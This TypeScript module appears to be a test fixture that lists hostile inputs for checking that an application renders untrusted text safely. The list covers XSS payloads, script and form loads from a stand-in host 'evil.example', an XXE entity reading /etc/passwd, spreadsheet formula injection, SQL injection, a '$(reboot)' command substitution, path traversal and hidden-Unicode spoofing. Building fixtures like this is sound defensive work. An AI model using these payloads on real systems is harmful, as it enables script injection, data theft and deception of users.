/** A text that is code, or deceives, somewhere; and what a reader must see of it where that is not the text itself. */
export interface Payload {
  readonly text: string;
  readonly shown: string;
}

const markup: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<svg><script href=//evil.example/x.js /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=//evil.example/x.swf></object>',
  '<embed src=//evil.example/x>',
  '<a href="javascript:alert(1)">open</a>',
  '<style>*{display:none}</style>',
  '<style>@import"//evil.example/x.css"</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>x</button></form>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<video src=//evil.example/x onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</title></script><script src=//evil.example/x.js></script>',
  '</textarea></bdi></dialog><h1>Signed out</h1>',
  '<!--#exec cmd="ls"-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<div style="background:url(//evil.example/x)">',
  '<x is="y" onclick=alert(1) tabindex=1 id=root>',
  '&lt;b&gt;&#x41;&colon;',
  '" onmouseover="alert(1)" x="',
  '<b>'.repeat(700),
  "' autofocus onfocus='alert(1)",
];

const scripts: readonly string[] = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  "';alert(1)//",
  '\\";alert(1);//',
  '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text itself that is hostile
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '*{background:url(//evil.example/y)}',
  '//evil.example/path',
  'https://login.microsoftonline.com@evil.example/',
];

const data: readonly string[] = [
  '=HYPERLINK("//evil.example","open")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  "-2+3+cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  '%2e%2e%2f%00',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '{"$ref":"#/x"}',
  "' OR 1=1 --",
  '$(reboot)',
  '%s%n%x',
  '(a+)+$',
  'שלום עולם',
  'مرحبا بالعالم',
  'Z̷̛͉a̸l̶g̵o̷',
  '👩‍👩‍👧 ﷽ 𝕬𝖚𝖉𝖎𝖔',
];

/** What cannot be seen, or turns round what stands beside it, is shown as its code. */
const hidden: readonly Payload[] = [
  { text: '\u202Egpj.revird\u202C.exe', shown: '[U+202E]gpj.revird[U+202C].exe' },
  { text: '\u2067Approved\u2069', shown: '[U+2067]Approved[U+2069]' },
  { text: 'Real\u200Btek', shown: 'Real[U+200B]tek' },
  { text: '\uFEFFRealtek', shown: '[U+FEFF]Realtek' },
  { text: 'Real\u00ADtek', shown: 'Real[U+00AD]tek' },
  { text: 'before\u0000after', shown: 'before[U+0000]after' },
  { text: '\u001B[2J\u001B]0;pwned\u0007', shown: '[U+001B][2J[U+001B]]0;pwned[U+0007]' },
  { text: 'new\u2028line', shown: 'new[U+2028]line' },
  { text: '\u{E0041}\u{E0042}tag', shown: '[U+E0041][U+E0042]tag' },
];

export const payloads: readonly Payload[] = [
  ...[...markup, ...scripts, ...data].map((text) => ({ text, shown: text })),
  ...hidden,
];

/** All payloads in this many texts, some in each. */
export function payloadsIn(count: number): readonly Payload[] {
  return Array.from({ length: count }, (_, index) => {
    const own = payloads.filter((_payload, place) => place % count === index);
    return {
      text: own.map(({ text }) => text).join(' | '),
      shown: own.map(({ shown }) => shown).join(' | '),
    };
  });
}
